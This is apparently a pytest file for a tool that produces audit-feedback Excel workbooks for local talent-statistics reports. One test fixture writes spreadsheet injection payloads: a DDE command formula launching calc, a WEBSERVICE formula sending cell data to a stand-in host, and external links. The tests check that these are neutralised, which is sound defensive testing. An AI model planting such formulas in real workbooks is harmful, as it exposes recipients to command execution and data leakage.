"""Feedback workbooks and the collection summary."""

from __future__ import annotations

import openpyxl
import pandas as pd
import xlwt
from openpyxl.styles import PatternFill

from talentstats.profile.forms import form
from talentstats.publication.feedback import (
    FEEDBACK_SHEET,
    collection_table,
    current_findings,
    superseded_findings,
    write_collection_summary,
    write_feedback,
)

RED, YELLOW = "00FFC7CE", "00FFEB9C"


def finding(rule, severity, message, cells, form="TR1", source_file="a.xlsx", kind="表内"):
    return dict(year=2015, unit_code="441900003", form=form, rule=rule, kind=kind,
                severity=severity, message=message, cells=cells, source_file=source_file)


def make_xlsx(path, sheets=("人才资源", "表2")):
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for name in sheets:
        ws = wb.create_sheet(name)
        ws["A1"] = "人才资源情况"
        ws.merge_cells("A1:M1")
        ws["A7"], ws["B7"], ws["C7"] = "人才资源总量", 100, 52310
        ws["A8"], ws["B8"], ws["C8"] = "党政人才", 110, 52301
        ws["C9"] = "=SUM(C7:C8)"
    wb.save(path)
    return path


def fill(ws, ref):
    return ws[ref].fill.fgColor.rgb if ws[ref].fill.fill_type == "solid" else None


def test_feedback_marks_cells_and_lists_findings(tmp_path):
    src = make_xlsx(tmp_path / "东城2015.xlsx")
    found = pd.DataFrame([
        finding("N01", "error", "表1 第100行“人才资源总量”合计(列1)=52,310，六支队伍之和=52,301，相差9",
                "人才资源!C7;人才资源!C8"),
        finding("H01", "warning", "表1 第100行 变动超过±30%，请核实", "人才资源!C7", kind="历年"),
        finding("N09", "warning", "表2 测试提示", "表2!C8", form="TR2"),
    ])
    out = write_feedback(src, found, tmp_path / "out" / "东城街道2015审核反馈.xlsx",
                         unit_name="东城街道", year=2015)
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == [FEEDBACK_SHEET, "人才资源", "表2"]
    ws = wb["人才资源"]
    assert fill(ws, "C7") == RED and fill(ws, "C8") == RED  # the error wins over the warning
    assert fill(ws, "C9") is None and fill(ws, "B7") is None
    assert fill(wb["表2"], "C8") == YELLOW
    assert ws["C7"].comment.text == (
        "[N01 强制性] 表1 第100行“人才资源总量”合计(列1)=52,310，六支队伍之和=52,301，相差9\n"
        "[H01 核实性] 表1 第100行 变动超过±30%，请核实")
    assert ws["C8"].comment.text.startswith("[N01 强制性]")
    assert ws["C9"].value == "=SUM(C7:C8)"  # the town's formula kept as sent
    assert "A1:M1" in {str(r) for r in ws.merged_cells.ranges}

    res = wb[FEEDBACK_SHEET]
    assert res["A1"].value == "东城街道2015年人才资源统计报表审核结果"
    assert res["A2"].value.startswith("审核发现1条强制性错误（红色标示），相关报表（表1）已退回，请更正后重新报送。")
    assert [c.value for c in res[5]] == ["序号", "表", "规则", "类别", "性质", "说明", "单元格"]
    assert [c.value for c in res[6]] == [1, "表1", "N01", "表内", "强制性", found.loc[0, "message"],
                                         "人才资源!C7;人才资源!C8"]
    assert [res.cell(row=r, column=3).value for r in (7, 8)] == ["H01", "N09"]
    assert res["B8"].value == "表2"


def test_warnings_only_ask_to_confirm(tmp_path):
    src = make_xlsx(tmp_path / "a.xlsx")
    found = pd.DataFrame([finding("H01", "warning", "变动超过±30%", "人才资源!C7", kind="历年")])
    wb = openpyxl.load_workbook(write_feedback(src, found, tmp_path / "f.xlsx", unit_name="东城街道", year=2015))
    assert wb[FEEDBACK_SHEET]["A2"].value.startswith("未发现强制性错误，报表已接收。有1条核实性提示")
    assert "无需重新报送" in wb[FEEDBACK_SHEET]["A2"].value


def test_xls_source_converted_and_roster_rows_marked(tmp_path):
    book = xlwt.Workbook()
    ws = book.add_sheet("名册")
    ws.write_merge(0, 0, 0, 4, "高层次人才名册")
    for c, text in enumerate(["序号", "姓名", "性别", "公民身份号码", "出生年月"]):
        ws.write(3, c, text)
    ws.write(4, 0, 1)
    ws.write(4, 2, "男")
    ws.write(6, 0, 2)
    ws.write(6, 4, "=not a formula")
    src = tmp_path / "名册.xls"
    book.save(str(src))
    found = pd.DataFrame([finding("P01", "error", "表4 第7行(序号2)公民身份号码不是有效的18位号码", "名册!7:7",
                                  form="TR4")])
    wb = openpyxl.load_workbook(write_feedback(src, found, tmp_path / "f.xlsx", unit_name="东城街道", year=2015))
    assert wb.sheetnames == [FEEDBACK_SHEET, "名册"]
    ws = wb["名册"]
    assert ws["A1"].value == "高层次人才名册" and ws["C5"].value == "男" and ws["A5"].value == 1
    assert ws["E7"].value == "=not a formula" and ws["E7"].data_type == "s"
    assert "A1:E1" in {str(r) for r in ws.merged_cells.ranges}
    assert [fill(ws, f"{c}7") for c in "ABCDE"] == [RED] * 5
    assert fill(ws, "A5") is None
    assert ws["A7"].comment.text.startswith("[P01 强制性] 表4 第7行(序号2)")


def test_several_files_with_clashing_sheet_names(tmp_path):
    a = make_xlsx(tmp_path / "东城表1.xlsx", sheets=("表1",))
    b = make_xlsx(tmp_path / "东城表2.xlsx", sheets=("表1",))
    fa = pd.DataFrame([finding("N01", "error", "甲", "表1!C7")])
    fb = pd.DataFrame([finding("N08", "warning", "乙", "表1!C8", form="TR2")])
    out = write_feedback({a: fa, b: fb}, None, tmp_path / "f.xlsx", unit_name="东城街道", year=2015)
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == [FEEDBACK_SHEET, "表1", "东城表2_表1"]
    assert fill(wb["表1"], "C7") == RED and fill(wb["表1"], "C8") is None
    assert fill(wb["东城表2_表1"], "C8") == YELLOW and fill(wb["东城表2_表1"], "C7") is None
    assert wb["东城表2_表1"]["C8"].comment.text == "[N08 核实性] 乙"
    assert wb[FEEDBACK_SHEET].max_row == 7


def test_unreadable_file_is_listed_not_opened(tmp_path):
    bad = tmp_path / "bad.xlsx"
    bad.write_bytes(b"not a zip")
    found = pd.DataFrame([finding("X01", "error", "文件无法读取", "", form="", kind="格式")])
    wb = openpyxl.load_workbook(write_feedback(bad, found, tmp_path / "f.xlsx", unit_name="东城街道", year=2015))
    assert wb.sheetnames == [FEEDBACK_SHEET]
    assert wb[FEEDBACK_SHEET]["F6"].value == "文件无法读取"


def submissions():
    return pd.DataFrame([
        dict(year=2015, unit_code="441900003", form="TR1", source_file="a.xlsx", sha256="1", status="accepted"),
        dict(year=2015, unit_code="441900003", form="TR1", source_file="a0.xlsx", sha256="0", status="superseded"),
        dict(year=2015, unit_code="441900003", form="TR2", source_file="a.xlsx", sha256="1", status="rejected"),
        dict(year=2015, unit_code="441900004", form="", source_file="b.xlsx", sha256="2", status="unreadable"),
        dict(year=2015, unit_code="441900", form="TR5", source_file="c.xlsx", sha256="3", status="accepted"),
        dict(year=2014, unit_code="441900005", form="TR1", source_file="d.xlsx", sha256="4", status="accepted"),
    ])


def test_collection_table_lists_every_unit():
    found = pd.DataFrame([
        finding("N09", "error", "x", "表2!C8", form="TR2"),
        finding("H01", "warning", "y", "表1!C7"),
        finding("H02", "warning", "z", "表2!D7", form="TR2"),
    ])
    table = collection_table(submissions(), found, 2015)
    assert len(table) == 36 and table["unit_code"].iloc[-1] == "441900"
    dong = table.set_index("unit_code").loc["441900003"]
    assert list(dong[["TR1", "TR2", "TR3", "TR4", "TR5"]]) == ["已接收", "已退回", "未报送", "未报送", "—"]
    assert (dong["errors"], dong["warnings"]) == (1, 2)
    nan = table.set_index("unit_code").loc["441900004"]
    assert list(nan[["TR1", "TR2", "TR3", "TR4", "TR5"]]) == ["无法读取"] * 4 + ["—"]
    wan = table.set_index("unit_code").loc["441900005"]  # 2014 does not count for 2015
    assert list(wan[["TR1", "TR5"]]) == ["未报送", "—"]
    city = table.set_index("unit_code").loc["441900"]
    assert list(city[["TR1", "TR4", "TR5"]]) == ["—", "—", "已接收"]
    assert (table["TR1"] == "未报送").sum() == 33


def test_collection_summary_workbook(tmp_path):
    orphan = finding("X03", "error", "无法确定填报单位", "", form="", kind="格式", source_file="unknown.xlsx")
    found = pd.DataFrame([orphan | {"unit_code": ""}])
    out = write_collection_summary(submissions(), found, tmp_path / "s.xlsx", year=2015)
    wb = openpyxl.load_workbook(out)
    ws = wb["收集情况"]
    assert ws.freeze_panes == "C3"
    assert ws["A2"].value == "单位代码" and ws["C2"].value == "表1 人才资源情况"
    assert ws.max_row == 2 + 36 + 1
    codes = [ws.cell(row=r, column=1).value for r in range(3, 39)]
    assert "441900004" in codes and len(set(codes)) == 36
    row = codes.index("441900003") + 3
    assert ws.cell(row=row, column=3).value == "已接收"
    assert ws.cell(row=row, column=3).fill.fgColor.rgb == "00C6EFCE"
    assert ws.cell(row=row, column=4).fill.fgColor.rgb == "00FFC7CE"
    assert ws.cell(row=39, column=3).value == "1/35"
    assert ws.column_dimensions["B"].width == 16
    assert wb["未识别单位的文件"]["A2"].value == "unknown.xlsx"


# ---------------------------------------------------------------------------------------------
# Feedback follows the current submission (issue 16)


def _other_person(id_number: str) -> str:
    """The ID number with region 441901 and its check character worked out again (GB 11643:
    weights 7,9,10,5,8,4,2,1,6,3,7,9,10,5,8,4,2, sum mod 11 indexes "10X98765432")."""
    first17 = "441901" + id_number[6:17]
    total = sum(int(d) * w for d, w in zip(first17, (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5,
                                                      8, 4, 2), strict=True))
    return first17 + "10X98765432"[total % 11]


def _resent_five_times(raw):
    """石龙镇 sent its workbook five times (报出日期 5 to 9 January 2014), each with TR1's
    total (item 100, column 1) off by the version's number, so the last one has N-rule errors
    (the rules run on the winner only), and versions 1-4 a negative first item of TR3 (an F02
    error of the parse, which every file gets); 茶山镇 sent one consistent workbook, with a
    roster of other persons (the same ID numbers in two rosters would be a P05 warning)."""
    from datetime import date

    from test_pipeline import _ROSTER, _values

    from talentstats.workbooks.template import write_template

    files = []
    for k in range(1, 6):
        values = _values()
        values["TR1"] = {**values["TR1"], (100, 1): 1000 + k}
        if k < 5:
            first = min(values["TR3"])
            values["TR3"] = {**values["TR3"], first: -k}
        path = raw / f"石龙镇2013年人才统计报表_第{k}次.xlsx"
        write_template(path, 2013, "441900102", values=values, roster=_ROSTER,
                       report_date=date(2014, 1, 4 + k))
        files.append(path)
    other = [{**person, "id_number": _other_person(person["id_number"])} for person in _ROSTER]
    write_template(raw / "茶山镇2013年人才统计报表.xlsx", 2013, "441900103", values=_values(),
                   roster=other, report_date=date(2014, 1, 6))
    return files


def test_a_unit_that_resent_five_times_gets_only_its_current_file(tmp_path, monkeypatch):
    from talentstats.pipeline import ingest_year

    monkeypatch.setenv("TALENTSTATS_KEY_FILE", str(tmp_path / "secret" / "key"))
    raw = tmp_path / "raw"
    raw.mkdir()
    files = _resent_five_times(raw)
    current = files[-1].name
    result = ingest_year(raw, 2013, tmp_path / "processed", reports_dir=tmp_path / "reports",
                         processes=1)
    subs = result.submissions.set_index(["source_file", "form"])["status"]
    assert subs[(current, "TR1")] == "rejected"
    assert {subs[(f.name, "TR1")] for f in files[:-1]} == {"superseded"}

    book = tmp_path / "reports" / "2013" / "feedback" / "石龙镇.xlsx"
    wb = openpyxl.load_workbook(book)
    sent = openpyxl.load_workbook(files[-1]).sheetnames
    assert wb.sheetnames == [FEEDBACK_SHEET, *sent]  # one copy: no sheet of another version
    tr1 = wb["表1"]
    marked = [c for row in tr1.iter_rows() for c in row if c.comment is not None]
    assert marked and all(fill(tr1, c.coordinate) == RED for c in marked)
    assert any("1005" in c.comment.text.replace(",", "") for c in marked)  # version 5's total
    assert not any("1004" in c.comment.text.replace(",", "") for c in marked)
    # printed: 表1's 13 columns (width 140) landscape on one page width, its title and header
    # (rows 1-7, above the first item) on every page
    assert (tr1.page_setup.orientation, tr1.page_setup.fitToWidth, tr1.page_setup.fitToHeight,
            tr1.print_title_rows) == ("landscape", 1, 0, "$1:$7")
    assert tr1.sheet_properties.pageSetUpPr.fitToPage

    res = wb[FEEDBACK_SHEET]
    rows = [[c.value for c in row] for row in res.iter_rows()]
    start = next(i for i, r in enumerate(rows) if r[0] and str(r[0]).startswith("已被后报文件替代"))
    assert rows[start + 1][:5] == ["文件", "表", "报出日期", "文件时间", "替代它的文件"]
    listed = rows[start + 2:start + 6]
    assert [r[0] for r in listed] == [f.name for f in reversed(files[:-1])]  # newest first
    assert [r[2] for r in listed] == ["2014-01-08", "2014-01-07", "2014-01-06", "2014-01-05"]
    assert {r[1] for r in listed} == {"表1、表2、表3、表4"}
    assert {r[4] for r in listed} == {current}
    assert all(r[3] for r in listed)  # the file time
    # the verdict and the findings list count the current file only
    assert all(str(r[6] or "").find("第1次") < 0 for r in rows)
    errors = result.findings[(result.findings["severity"] == "error")]
    old = superseded_findings(result.findings, result.submissions)
    assert set(result.findings.loc[old, "source_file"]) == {f.name for f in files[:-1]}
    assert set(errors.loc[~old, "source_file"]) == {current}
    assert res["A2"].value.startswith(f"审核发现{len(errors.loc[~old])}条强制性错误")

    # the findings of the superseded files stay in the dataset (audit trail), counted nowhere
    stored = pd.read_csv(tmp_path / "processed" / "findings.csv", dtype=str)
    assert {f.name for f in files} <= set(stored["source_file"])
    table = collection_table(result.submissions, result.findings, 2013).set_index("unit_code")
    assert table.loc["441900102", "errors"] == len(errors.loc[~old])
    assert table.loc["441900102", "errors"] < int(errors["unit_code"].eq("441900102").sum())


def test_a_clean_unit_gets_a_receipt(tmp_path, monkeypatch):
    from talentstats.pipeline import ingest_year

    monkeypatch.setenv("TALENTSTATS_KEY_FILE", str(tmp_path / "secret" / "key"))
    raw = tmp_path / "raw"
    raw.mkdir()
    _resent_five_times(raw)
    ingest_year(raw, 2013, tmp_path / "processed", reports_dir=tmp_path / "reports",
                processes=1)
    wb = openpyxl.load_workbook(tmp_path / "reports" / "2013" / "feedback" / "茶山镇.xlsx")
    assert wb.sheetnames == [FEEDBACK_SHEET]  # nothing copied
    res = wb[FEEDBACK_SHEET]
    assert res["A1"].value == "茶山镇2013年人才资源统计报表审核结果"
    assert res["A2"].value == "审核通过，未发现问题，报表已接收。"
    assert res["A6"].value == "无"
    assert res["A8"].value == "已收到的报表"
    assert [c.value for c in res[9]][:4] == ["表", "报表", "文件", "状态"]
    received = [[c.value for c in res[r]][:4] for r in range(10, 14)]
    assert received == [[f"表{n}", form(f"TR{n}").title, "茶山镇2013年人才统计报表.xlsx", "已接收"]
                        for n in (1, 2, 3, 4)]
    assert res.max_row == 13
    # printed: A4 landscape, one page wide, the header row on every page
    assert (res.page_setup.orientation, res.page_setup.paperSize) == ("landscape", 9)
    assert res.sheet_properties.pageSetUpPr.fitToPage and res.page_setup.fitToHeight == 0
    assert res.print_title_rows == "$5:$5"


def test_a_later_run_with_a_resubmission_replaces_the_workbook(tmp_path, monkeypatch):
    from datetime import date

    from test_pipeline import _ROSTER, _values

    from talentstats.pipeline import ingest_year
    from talentstats.workbooks.template import write_template

    monkeypatch.setenv("TALENTSTATS_KEY_FILE", str(tmp_path / "secret" / "key"))
    raw = tmp_path / "raw"
    raw.mkdir()
    values = _values()
    write_template(raw / "石龙镇2013_初报.xlsx", 2013, "441900102", roster=_ROSTER,
                   values={**values, "TR1": {**values["TR1"], (100, 1): 1009}},
                   report_date=date(2014, 1, 5))
    run = dict(reports_dir=tmp_path / "reports", processes=1)
    ingest_year(raw, 2013, tmp_path / "processed", **run)
    book = tmp_path / "reports" / "2013" / "feedback" / "石龙镇.xlsx"
    assert len(openpyxl.load_workbook(book).sheetnames) > 1  # the marked copy
    write_template(raw / "石龙镇2013_更正.xlsx", 2013, "441900102", values=values,
                   roster=_ROSTER, report_date=date(2014, 1, 9))
    ingest_year(raw, 2013, tmp_path / "processed", **run)
    res = openpyxl.load_workbook(book)
    assert res.sheetnames == [FEEDBACK_SHEET]  # the correction is clean: a receipt
    rows = [[c.value for c in row] for row in res[FEEDBACK_SHEET].iter_rows()]
    assert rows[1][0] == "审核通过，未发现问题，报表已接收。"
    assert ["石龙镇2013_初报.xlsx", "表1、表2、表3、表4", "2014-01-05"] in [r[:3] for r in rows]
    assert {r[4] for r in rows if r[0] == "石龙镇2013_初报.xlsx"} == {"石龙镇2013_更正.xlsx"}


def test_superseded_findings_are_not_counted():
    subs = submissions()
    found = pd.DataFrame([
        finding("N01", "error", "旧版", "表1!C7", source_file="a0.xlsx"),
        finding("X02", "warning", "旧版整个文件", "", form="", source_file="a0.xlsx", kind="格式"),
        finding("N09", "error", "现版", "表2!C8", form="TR2"),
        finding("H01", "warning", "现版", "表1!C7"),
    ])
    assert superseded_findings(found, subs).tolist() == [True, True, False, False]
    assert list(current_findings(found, subs)["message"]) == ["现版", "现版"]
    dong = collection_table(subs, found, 2015).set_index("unit_code").loc["441900003"]
    assert (dong["errors"], dong["warnings"]) == (1, 1)
    # a file one of whose forms still counts is current: its whole-file findings count
    partly = pd.concat([subs, pd.DataFrame([dict(year=2015, unit_code="441900003", form="TR3",
                                                 source_file="a0.xlsx", sha256="0",
                                                 status="accepted")])])
    assert superseded_findings(found, partly).tolist() == [True, False, False, False]


# ---------------------------------------------------------------------------------------------
# Nothing outward, and no forbidden character, in a feedback workbook (issue 15, items 1 and 8)

DDE = "=cmd|' /C calc'!A0"
FETCH = '=WEBSERVICE("http://x/?"&C8)'
UNC = "file://\\\\host\\share\\x.lnk"


def _hostile_xlsx(path, sheet):
    """A unit's workbook whose formulas, links, conditional formats and validations reach
    outside, beside harmless ones of each kind."""
    from openpyxl.formatting.rule import CellIsRule, FormulaRule
    from openpyxl.worksheet.datavalidation import DataValidation
    from openpyxl.worksheet.formula import ArrayFormula
    from openpyxl.worksheet.hyperlink import Hyperlink

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = sheet
    ws["C7"], ws["C8"] = 100, 52310
    ws["D1"] = ArrayFormula("D1", DDE)
    ws["D2"] = ArrayFormula("D2", FETCH)
    ws["D3"] = "=[1]Sheet1!A1"
    ws["D4"] = "=SUM(C7:C8)"  # the unit's own sum: kept
    ws["D5"] = ArrayFormula("D5", "=SUM(C7:C8*2)")  # kept
    ws["E1"].hyperlink = UNC
    ws["E2"].hyperlink = "http://x/"
    ws["E3"].hyperlink = Hyperlink(ref="E3", location=f"'{sheet}'!C7")  # within: kept
    ws.conditional_formatting.add("C7:C8", FormulaRule(formula=['ISNUMBER(WEBSERVICE("http://x/"))'],
                                                       fill=PatternFill("solid", fgColor="FF0000")))
    ws.conditional_formatting.add("C7:C8", CellIsRule(operator="greaterThan", formula=["1000"],
                                                      fill=PatternFill("solid", fgColor="00FF00")))
    outward = DataValidation(type="list", formula1="[1]Sheet1!$A$1:$A$3")
    dde = DataValidation(type="custom", formula1="cmd|' /C calc'!A0")
    plain = DataValidation(type="list", formula1='"是,否"')
    for dv, ref in ((outward, "C7"), (dde, "C8"), (plain, "C9")):
        ws.add_data_validation(dv)
        dv.add(ref)
    wb.save(path)
    return path


def _package(path):
    """Every part of a written package, as text."""
    import zipfile

    with zipfile.ZipFile(path) as z:
        return {n: z.read(n).decode("utf-8", "replace") for n in z.namelist()}


def test_nothing_outward_survives_from_any_submitted_file(tmp_path):
    import re

    # a unit's form and its roster sent separately: the second file is copied cell by cell
    a = _hostile_xlsx(tmp_path / "东城表1.xlsx", "表1")
    b = _hostile_xlsx(tmp_path / "东城名册.xlsx", "表4")
    fa = pd.DataFrame([finding("N01", "error", "甲", "表1!C7")])
    fb = pd.DataFrame([finding("P01", "warning", "乙", "表4!C8", form="TR4")])
    out = write_feedback({a: fa, b: fb}, None, tmp_path / "f.xlsx", unit_name="东城街道",
                         year=2015)
    parts = _package(out)
    assert not [n for n in parts if "externalLink" in n]
    rels = "".join(v for n, v in parts.items() if n.endswith(".rels"))
    assert "External" not in rels and "file:" not in rels and "http://x" not in rels
    sheets = {n: v for n, v in parts.items() if n.startswith("xl/worksheets/sheet")}
    formulas = [f for v in sheets.values() for f in re.findall(r"<f[^>]*>([^<]*)</f>", v)]
    assert formulas and not [f for f in formulas if re.search(
        r"cmd\||WEBSERVICE|\[1\]|HYPERLINK", f, re.IGNORECASE)], formulas
    # the first file is the base of the copy: its own formulas stay; a later file's cells are
    # copied as values, their formulas as text
    assert sorted(formulas) == ["SUM(C7:C8)", "SUM(C7:C8*2)"]
    cf = [f for v in sheets.values() for f in re.findall(r"<formula>([^<]*)</formula>", v)]
    assert cf == ["1000"]
    dv = [f for v in sheets.values() for f in re.findall(r"<formula1>([^<]*)</formula1>", v)]
    assert dv == ['"&#26159;,&#21542;"']  # "是,否"

    wb = openpyxl.load_workbook(out)
    for title in ("表1", "表4"):
        ws = wb[title]
        assert (ws["D1"].value, ws["D1"].data_type) == (DDE, "s")  # shown as text
        assert (ws["D2"].value, ws["D2"].data_type) == (FETCH, "s")
        assert (ws["D3"].value, ws["D3"].data_type) == ("=[1]Sheet1!A1", "s")
        assert ws["E1"].hyperlink is None and ws["E2"].hyperlink is None
    assert wb["表1"]["E3"].hyperlink.location == "'表1'!C7"
    assert (wb["表4"]["D5"].value, wb["表4"]["D5"].data_type) == ("=SUM(C7:C8*2)", "s")


def test_a_forbidden_character_does_not_lose_the_workbook(tmp_path):
    # a \x0b pasted from Word, in a message (which quotes a cell), in a cell of an .xls that
    # is converted, and in the collection summary
    book = xlwt.Workbook()
    ws = book.add_sheet("名册")
    ws.write(4, 1, "何\x0b娟雪")
    src = tmp_path / "名册.xls"
    book.save(str(src))
    message = "表4 第5行 姓名“何\x0b娟雪”请核实\x1b[2J"
    found = pd.DataFrame([finding("P01", "warning", message, "名册!B5", form="TR4")])
    out = write_feedback(src, found, tmp_path / "f.xlsx", unit_name="东城街道", year=2015)
    wb = openpyxl.load_workbook(out)
    assert wb["名册"]["B5"].value == "何娟雪"
    assert wb["名册"]["B5"].comment.text == "[P01 核实性] 表4 第5行 姓名“何娟雪”请核实[2J"
    assert wb[FEEDBACK_SHEET]["F6"].value == "表4 第5行 姓名“何娟雪”请核实[2J"

    orphan = finding("X03", "error", "无法\x0b确定", "", form="", source_file="a\x0c.xlsx")
    summary = write_collection_summary(submissions(), pd.DataFrame([orphan | {"unit_code": ""}]),
                                       tmp_path / "s.xlsx", year=2015)
    sheet = openpyxl.load_workbook(summary)["未识别单位的文件"]
    assert (sheet["A2"].value, sheet["D2"].value) == ("a.xlsx", "无法确定")


def _grid(ws) -> dict[tuple[int, int], object]:
    return {(c.row, c.column): c.value for row in ws.iter_rows() for c in row
            if c.value is not None and c.value != ""}


def test_the_samples_feedback_keeps_each_current_sheet_and_marks_its_findings(sample_run):
    """On the sample's feedback year: a unit with findings gets its current files' sheets with
    the same cells, merged ranges and the marks with comments (and prints to the page width);
    a unit without gets a receipt."""
    from conftest import FEEDBACK_YEAR
    from python_calamine import CalamineWorkbook

    from talentstats.profile.units import unit_name
    from talentstats.store import catalog

    subs = catalog.read_dataset(sample_run.processed, "submissions", years=[FEEDBACK_YEAR])
    found = catalog.read_dataset(sample_run.processed, "findings", years=[FEEDBACK_YEAR])
    counted = current_findings(found, subs)
    raw = sample_run.sample / str(FEEDBACK_YEAR)
    folder = sample_run.reports / str(FEEDBACK_YEAR) / "feedback"
    copies = receipts = 0
    for code, unit_subs in subs[subs["unit_code"] != ""].groupby("unit_code"):
        wb = openpyxl.load_workbook(folder / f"{unit_name(code)}.xlsx")
        mine = counted[counted["unit_code"] == code]
        now = sorted(set(unit_subs.loc[unit_subs["status"] != "superseded", "source_file"]))
        if mine.empty:
            assert wb.sheetnames == [FEEDBACK_SHEET], code
            receipts += 1
            continue
        copies += 1
        readable = [f for f in now if f not in set(mine.loc[mine["rule"] == "X01", "source_file"])]
        expected = []
        for f in readable:
            expected += CalamineWorkbook.from_path(str(raw / f)).sheet_names
        assert wb.sheetnames[0] == FEEDBACK_SHEET
        assert sorted(wb.sheetnames[1:]) == sorted(expected), code  # current files only
        for f in readable:
            source = CalamineWorkbook.from_path(str(raw / f))
            for name in source.sheet_names:
                sheet = source.get_sheet_by_name(name)
                copy_ = wb[name]
                values = sheet.to_python(skip_empty_area=False)
                got = _grid(copy_)
                for r, row in enumerate(values, start=1):
                    for c, v in enumerate(row, start=1):
                        if v != "" and not isinstance(got.get((r, c)), str | type(None)):
                            assert float(got[(r, c)]) == float(v), (code, name, r, c)
                        elif v != "" and isinstance(v, str):
                            assert got.get((r, c)) == v, (code, name, r, c)
                merged = {(r0 + 1, c0 + 1, r1 + 1, c1 + 1)
                          for (r0, c0), (r1, c1) in sheet.merged_cell_ranges or []
                          if (r0, c0) != (r1, c1)}
                assert {(m.min_row, m.min_col, m.max_row, m.max_col)
                        for m in copy_.merged_cells.ranges} == merged, (code, name)
                assert copy_.page_setup.fitToWidth == 1 and copy_.sheet_properties.pageSetUpPr.fitToPage
        for rec in mine.to_dict("records"):
            first = next(iter(filter(None, rec["cells"].split(";"))), "")
            sheet, _, ref = first.rpartition("!")
            if not sheet or ":" in ref:
                continue
            cell = wb[sheet][ref]
            assert cell.comment is not None and f"[{rec['rule']} " in cell.comment.text, (code, first)
            assert fill(wb[sheet], ref) in (RED, YELLOW), (code, first)
    assert copies >= 3 and receipts >= 10, (copies, receipts)


def test_the_console_summary_counts_only_current_findings(tmp_path):
    """``talentstats ingest`` on the five versions: 3 errors of version 5 (N01, N05, N06) and
    the H00 warning count; the 4 F02 errors of versions 1-4 are only said to exist."""
    import os
    import subprocess
    import sys

    raw = tmp_path / "raw"
    raw.mkdir()
    _resent_five_times(raw)
    result = subprocess.run(
        [sys.executable, "-m", "talentstats", "ingest", str(raw), "--year", "2013", "--jobs", "1",
         "--out", str(tmp_path / "p"), "--reports", str(tmp_path / "r"),
         "--key-file", str(tmp_path / "secret" / "key")],
        capture_output=True, text=True, timeout=300, env={**os.environ, "COLUMNS": "400"})
    assert result.returncode == 1, result.stderr  # version 5 is rejected
    assert "错误 3 条，提示 1 条（另有 4 条属于已被替代的文件，只记入 findings 数据集）" in result.stdout
    assert "是负数" not in result.stdout  # the superseded files' F02 are not listed
    assert "六支队伍之和=1,000，相差5" in result.stdout  # version 5's N01 is
